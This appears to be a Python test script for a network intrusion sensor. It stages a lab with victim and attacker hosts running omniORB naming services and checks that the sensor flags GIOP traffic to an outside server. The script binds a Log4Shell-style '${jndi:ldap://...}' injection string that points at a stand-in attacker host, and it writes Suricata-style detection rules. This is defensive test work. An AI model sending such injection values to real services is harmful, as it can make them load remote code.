#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""giop.py SENSOR: omniORB's naming service and its client speak GIOP. A lookup that is bound as a name is found; ordinary
use of the service is not told of, unless it is somebody else's: then what is asked and where it leads is.
"""
import sys

import lab

POLICY = "JNDI policy: GIOP (CORBA) to a server outside"
REFERENCE = "NameService=corbaloc:iiop:1.2@%s:2809/NameService" % lab.VICTIM


def main():
    program = sys.argv[1]
    lab.enter("omniNames", "nameclt")
    lab.build_network()
    (lab.WORK / "names").mkdir()
    lab.start("vic", "omniNames", "-start", "2809", "-logdir", lab.WORK / "names", "-ORBendPoint", "giop:tcp:%s:2809" % lab.VICTIM)
    lab.until("the naming service", lambda: lab.listening("vic", 2809))
    sensor = lab.Sensor(program, "workers: 1")

    def client(*words, check=True):
        return lab.run("atk", "nameclt", "-ORBInitRef", REFERENCE, *words, check=check)

    client("bind_new_context", "shop")
    assert "shop" in client("list")
    client("resolve", "shop")
    client("resolve", "missing", check=False)
    found = sensor.settled()
    assert not found, "ordinary use of a naming service:\n" + lab.listing(found)

    name = "ldap://%s:1389/in-a-name" % lab.ATTACKER
    escaped = "".join("\\" + c if c in "./" else c for c in name)  # as a naming service's own separators have to be
    client("bind_new_context", "${jndi:%s}" % escaped)
    assert "in-a-name" in client("list"), "the name was not bound"
    requests = [alert for alert in sensor.settled() if alert.get("direction") == "to_server"]
    lab.once(requests, lab.lookup_of(name))
    sensor.stop()
    called_outside(program)


def called_outside(program):
    """The victim as a client of the attacker's naming service, as an old JDK is after a lookup of iiop: or corbaname:."""
    (lab.WORK / "outside").mkdir()
    lab.start("atk", "omniNames", "-start", "2809", "-logdir", lab.WORK / "outside", "-ORBendPoint", "giop:tcp:%s:2809" % lab.ATTACKER)
    lab.until("the attacker's naming service", lambda: lab.listening("atk", 2809))
    service = "NameService=corbaloc:iiop:1.2@%s:2809/NameService" % lab.ATTACKER
    rules = lab.WORK / "giop.rules"
    rules.write_text("".join('alert giop any any -> any any (msg:"%s"; %s sid:%d;)\n' % row for row in (
        ("asked", 'giop.operation; content:"resolve"; bsize:7;', 1000001),
        ("answered", 'giop.message; content:"reply"; bsize:5; giop.endpoint; content:"%s:2809"; bsize:14;' % lab.ATTACKER, 1000002))))
    sensor = lab.Sensor(program, "workers: 1", "-s", rules)
    lab.run("vic", "nameclt", "-ORBInitRef", service, "bind_new_context", "Exploit.kind")
    lab.run("vic", "nameclt", "-ORBInitRef", service, "resolve", "Exploit.kind")
    found = {}
    for alert in sensor.settled():
        assert alert["alert"]["severity"] >= 3, lab.listing([alert])
        found.setdefault(alert["alert"]["signature"], []).append(lab.facts(alert).get("giop"))
    opened = {"message": "request", "operation": "_is_a", "object": "NameService"}
    asked = {"message": "request", "operation": "resolve", "object": "NameService", "name": "Exploit.kind"}
    answered = {"message": "reply", "status": "no_exception", "endpoints": ["%s:2809" % lab.ATTACKER]}
    # once for each connection; the new context's reference and the one that is found
    assert found == {POLICY: [opened] * 2, "asked": [asked], "answered": [answered] * 2}, found
    print("called outside: %s" % found)
    sensor.stop()


if __name__ == "__main__":
    main()
